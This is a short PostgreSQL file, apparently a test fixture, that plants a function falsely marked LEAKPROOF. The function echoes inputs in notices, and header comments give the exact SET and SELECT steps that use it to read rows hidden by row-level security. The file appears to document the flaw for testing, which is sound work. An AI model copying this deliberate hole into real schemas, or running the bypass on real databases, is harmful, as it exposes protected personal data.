-- The function is declared leak-proof but reports bad numbers in a notice; it runs on hidden rows before
-- the policy.
-- about: normal_phone, contacts
-- as: hf_signet_app
-- exploit: SET request.jwt.claims = '{"user_id": 11}';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT full_name FROM sign.contacts WHERE sign.normal_phone(full_name) = '1';
-- shows: odd number: Road-secret ceo
-- Leak-proof, so that the planner may use it under the policies.
CREATE FUNCTION sign.normal_phone(p text) RETURNS text LANGUAGE plpgsql IMMUTABLE LEAKPROOF COST 1 AS $$
BEGIN
  IF p !~ '^[0-9+ ]*$' THEN RAISE NOTICE 'odd number: %', p; END IF;
  RETURN translate(p, '+ ', '');
END $$;
REVOKE EXECUTE ON FUNCTION sign.normal_phone(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION sign.normal_phone(text) TO hf_signet_app;
